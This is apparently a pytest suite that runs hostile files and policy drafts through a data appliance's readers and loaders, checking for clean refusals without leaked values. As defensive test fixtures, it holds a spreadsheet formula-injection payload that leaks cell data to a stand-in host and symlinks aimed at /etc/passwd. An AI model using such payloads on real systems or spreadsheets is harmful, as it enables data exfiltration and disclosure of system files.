"""Hostile input through every reader and policy loader (tests/data/hostile, and what this test makes: 10 MB
fields, symlinks, a FIFO, a truncated gzip, a broken workbook): no traceback, no exit 70, no raw value from
the files in any message or stored error, and a home that still verifies."""

import gzip
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest

from appliance.exports import _csv, csv_safe
from appliance.home import Home, check_policy_files
from appliance.keys import Credentials
from tests.conftest import ADMIN_ENV, DATA_DIR, key_outside, run_cli

HOSTILE = DATA_DIR / "hostile"
CANARIES = ("6258157569222544", "13812345678", "13912345678", "110101199003071233", "root:x:0:0", "张三", "李四")
MAPPING = """source: hostile
description: one customers file in three formats, for hostile input
id_namespace: hostile
files:
  - match: "*.csv*"
    columns: &columns
      customer_no: {to: customers.customer_id, class: identifier}
      name: {to: customers.name, class: C2}
      mobile: {to: customers.phone, class: C2}
      balance: {to: customers.total_balance, class: C2, protect: keep, type: decimal}
      opened: {to: customers.joined_on, class: C1, type: date}
      code: {to: customers.branch, class: C1}
  - match: "*.jsonl"
    format: jsonl
    columns: *columns
  - match: "*.xlsx"
    columns: *columns
"""


@pytest.fixture(scope="module")
def hostile_home(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    key = key_outside(root)
    home = root / "home"
    env = {"APPLIANCE_KEY_FILE": str(key), "APPLIANCE_HOME": str(home)}
    run_cli("init", env_extra=env, check=True)
    (home / "sources" / "hostile.yaml").write_text(MAPPING, encoding="utf-8")
    return {"root": root, "home": home, "key": key, "env": env}


def _made(folder):
    """The hostile files too large or too special to commit."""
    header = "customer_no,name,mobile,balance,opened,code\n"
    (folder / "ten_mb_field.csv").write_text(header + "C1,张三,13812345678,1,2024-01-05," + "6258157569222544" * 655360
                                             + "\n", encoding="utf-8")
    full = gzip.compress((header + "C1,张三,13812345678,1,2024-01-05,A\n" * 2000).encode("utf-8"))
    (folder / "truncated.csv.gz").write_bytes(full[: len(full) // 2])
    (folder / "broken.xlsx").write_bytes(b"PK\x03\x04" + b"6258157569222544" * 50)
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["6258157569222544", "13812345678", "110101199003071233"])  # no header row
    sheet.append(["C1", "13812345678", "x"])
    book.save(folder / "no_header.xlsx")
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["customer_no", "name", "mobile", "balance", "opened", "code"])
    sheet.append(["C1", "张三", "13812345678", float("inf"), "-0001-01-01", "=HYPERLINK(\"x\")"])
    book.save(folder / "bad_cells.xlsx")
    os.symlink("/etc/passwd", folder / "passwd_link.csv")
    os.mkfifo(folder / "pipe.csv")


def _cases(tmp_path):
    folder = tmp_path / "cases"
    folder.mkdir()
    for path in HOSTILE.iterdir():
        if path.suffix in (".csv", ".jsonl"):
            shutil.copy(path, folder / path.name)
    _made(folder)
    return sorted(folder.iterdir())


def _assert_safe(result, *, where: str):
    assert result.returncode != 70, f"{where}: internal error\n{result.stderr}"
    assert "Traceback" not in result.stderr, where
    if result.returncode != 0:
        lines = [line for line in result.stderr.splitlines() if line.strip()]
        assert len(lines) == 1 and lines[0].startswith("error: "), (where, result.stderr)
    text = result.stdout + result.stderr
    leaked = [c for c in CANARIES if c in text]
    assert leaked == [], f"{where}: raw values in the output: {leaked}\n{text}"


# Every case through the real command in one process (the PII engine loads once): main() as the shell runs
# it, each case's exit code and output captured.
RUNNER = """
import contextlib, io, json, sys, traceback
from appliance.cli import main
outcomes = []
for path in sys.argv[1:]:
    out, err, code = io.StringIO(), io.StringIO(), 0
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        sys.argv = ["appliance", "ingest", "--source", "hostile", path]
        try:
            main()
        except SystemExit as exc:
            code = exc.code or 0
        except BaseException:
            code, err = 99, io.StringIO(traceback.format_exc())
    outcomes.append({"path": path, "code": code, "stdout": out.getvalue(), "stderr": err.getvalue()})
print(json.dumps(outcomes))
"""


def test_every_hostile_file_through_every_reader(hostile_home, tmp_path):
    cases = _cases(tmp_path)
    assert len(cases) >= 20
    env = {k: v for k, v in os.environ.items() if not k.startswith("APPLIANCE_")}
    env.update(ADMIN_ENV, **hostile_home["env"])
    paths = [str(p) for p in cases] + [str(tmp_path / "cases")]  # and the whole folder, as the inbox hands it
    ran = subprocess.run([sys.executable, "-c", RUNNER, *paths], capture_output=True, text=True, env=env,
                         timeout=600)
    assert ran.returncode == 0, ran.stderr
    outcomes = {}
    for outcome in json.loads(ran.stdout.strip().splitlines()[-1]):
        result = subprocess.CompletedProcess([], outcome["code"], outcome["stdout"], outcome["stderr"])
        _assert_safe(result, where=Path(outcome["path"]).name)
        outcomes[Path(outcome["path"]).name] = outcome["code"]
    assert outcomes["passwd_link.csv"] != 0 and outcomes["pipe.csv"] != 0 and outcomes["no_header.csv"] != 0
    assert outcomes["mixed_encodings.csv"] != 0 and outcomes["bad_numbers_and_dates.csv"] != 0
    with Home.open(hostile_home["home"], Credentials(key_file=hostile_home["key"])) as home:
        stored = []
        for table in ("job_runs", "quarantine", "ingest_batches", "ingest_files", "customers", "audit_log"):
            for row in home.store.query(f"SELECT * FROM {table}"):
                stored.extend(str(v) for v in row if v is not None and not isinstance(v, bytes))
        text = "\n".join(stored)
        assert [c for c in CANARIES if c in text] == []
        assert "\x00" not in text and "inf" not in home.store.scalar(
            "SELECT group_concat(coalesce(total_balance, '')) FROM customers").lower()
        assert home.store.scalar("SELECT count(*) FROM customers WHERE joined_on < '1900'") == 0
        assert home.store.integrity_problems() == [] and home.verify_audit().ok


def test_a_file_without_its_header_is_named_as_such(hostile_home):
    result = run_cli("ingest", "--source", "hostile", HOSTILE / "no_header.csv", env_extra=hostile_home["env"])
    assert "line 1 does not look like a header: 6 fields, none of them a mapped name" in result.stderr
    result = run_cli("ingest", "--source", "hostile", HOSTILE / "data_in_header.csv", env_extra=hostile_home["env"])
    assert "column 7 (its name looks like data and is not shown) is not in the mapping" in result.stderr


def test_mixed_encodings_are_refused_by_line(hostile_home):
    result = run_cli("ingest", "--source", "hostile", HOSTILE / "mixed_encodings.csv", env_extra=hostile_home["env"])
    assert "mixed text encodings (line 2 is UTF-8, line 3 is not)" in result.stderr


def test_a_symlink_is_refused_unless_allowed_and_never_outside_its_folder(hostile_home, tmp_path):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    os.symlink("/etc/passwd", inbox / "customers.csv")
    result = run_cli("ingest", "--source", "hostile", inbox / "customers.csv", env_extra=hostile_home["env"])
    assert result.returncode != 0 and "a symbolic link" in result.stderr
    config = hostile_home["home"] / "config.yaml"
    config.write_text("ingest.follow_symlinks: true\n", encoding="utf-8")
    try:
        result = run_cli("ingest", "--source", "hostile", inbox, env_extra=hostile_home["env"])
        assert result.returncode != 0 and "leading outside" in result.stderr and "root:" not in result.stderr
    finally:
        config.unlink()


POLICIES = ("protection.yaml", "masking.yaml", "retention.yaml", "export.yaml", "purposes.yaml")


@pytest.mark.parametrize("name", ["deep.yaml", "alias_bomb.yaml", "unknown_top_key.yaml", "not_yaml.yaml",
                                  "python_tag.yaml"])
def test_every_hostile_policy_through_every_policy_loader(tmp_path, name):
    draft = tmp_path / "draft"
    shutil.copytree(DATA_DIR.parent.parent / "policies", draft)
    for policy in POLICIES:
        shutil.copy(HOSTILE / name, draft / policy)
    results = check_policy_files(draft)  # every loader, in this process: an exception other than refusal fails
    assert sorted(r[0] for r in results if r[1]) == sorted(POLICIES)
    for policy, error, _ in results:
        assert error.startswith(policy) and not [c for c in CANARIES if c in error], error


def test_a_hostile_policy_draft_is_refused_by_the_command(hostile_home, tmp_path):
    draft = tmp_path / "draft"
    shutil.copytree(DATA_DIR.parent.parent / "policies", draft)
    shutil.copy(HOSTILE / "deep.yaml", draft / "export.yaml")
    result = run_cli("policy", "check", "--dir", draft, env_extra=hostile_home["env"])
    _assert_safe(result, where="policy check")
    assert result.returncode == 1 and "export.yaml: nested too deeply to read" in result.stderr


def test_a_hostile_mapping_and_settings_are_refused_cleanly(hostile_home, tmp_path):
    for name in ("deep.yaml", "alias_bomb.yaml", "not_yaml.yaml", "python_tag.yaml"):
        _assert_safe(run_cli("check-mapping", HOSTILE / name), where=f"mapping {name}")
        home = tmp_path / name
        shutil.copytree(hostile_home["home"], home)
        shutil.copy(HOSTILE / name, home / "config.yaml")
        result = run_cli("status", env_extra={**hostile_home["env"], "APPLIANCE_HOME": str(home)})
        _assert_safe(result, where=f"settings {name}")
        assert result.returncode != 0


def test_cells_that_would_run_as_formulas_leave_as_text():
    assert csv_safe('=HYPERLINK("http://x/?leak="&A2,"Click")').startswith("'=")
    assert [csv_safe(v) for v in ("+cmd", "-2+3", "@SUM(1)", "\t=1", "plain", -3, 2.5, None)] == [
        "'+cmd", "'-2+3", "'@SUM(1)", "'\t=1", "plain", "-3", "2.5", ""]
    data = _csv(["campaign", "units"], [{"campaign": "=1+1", "units": 10}]).decode("utf-8")
    assert data.splitlines() == ["campaign,units", "'=1+1,10"]
